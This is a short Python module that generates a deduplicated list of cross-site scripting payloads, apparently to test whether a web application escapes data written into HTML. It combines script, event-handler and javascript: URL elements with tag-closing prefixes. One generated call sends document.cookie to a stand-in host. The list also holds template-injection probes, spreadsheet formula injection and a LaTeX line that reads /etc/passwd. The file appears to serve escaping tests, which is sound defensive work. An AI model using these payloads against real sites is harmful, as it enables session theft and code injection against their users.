"""Texts that would run a script, load something or break the page, were a name from the data written into HTML as it is."""

from __future__ import annotations

import itertools

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//x.example/'+document.cookie)")
_ELEMENTS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT >",
    "<script/src=data:text/javascript,{call}></script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script\x0c>{call}</script\n>",
    "<img src=x onerror={call}>",
    "<img/src/onerror={call}//",
    "<svg onload={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><script>{call}</script></svg>",
    "<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<iframe src=javascript:{call}>",
    "<a href=javascript:{call}>x</a>",
    "<a href='java&#9;script:{call}'>x</a>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>",
    "<body onload={call}>",
    "<video><source onerror={call}></video>",
    "<base href='//x.example/'>{call}",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href='//x.example/{call}'>",
    "<style>@import'//x.example/{call}';</style>",
    "<div style='background:url(javascript:{call})'>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><script>{call}</script>'>",
    "<xml:namespace onreadystatechange={call}>",
)
_CLOSERS = (
    "", "</td>", "</table></main>", '">', "'>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</svg>", "</script>",
    '" onmouseover="', "' onfocus='", "` onclick=`", "\\\" ", "&quot;>", "&#34;&#62;", "\u2028", "\x00", "%3E", "{{", "{%",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7 * 7 }}", "{% for x in [].__class__ %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "}}{{ 7*7 }}", "{# hidden #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "$x_1$", "$\\frac{1}{2}$", "\\input{/etc/passwd}",
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u202ealert\u202c",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    elements = [
        closer + element.replace("{call}", call)
        for (number, element), (shift, closer) in itertools.product(enumerate(_ELEMENTS), enumerate(_CLOSERS))
        for call in [_CALLS[(number + shift) % len(_CALLS)]]
        if (number + shift) % 3 == 0 or not closer
    ]
    return list(dict.fromkeys([*_TEMPLATES, *elements]))
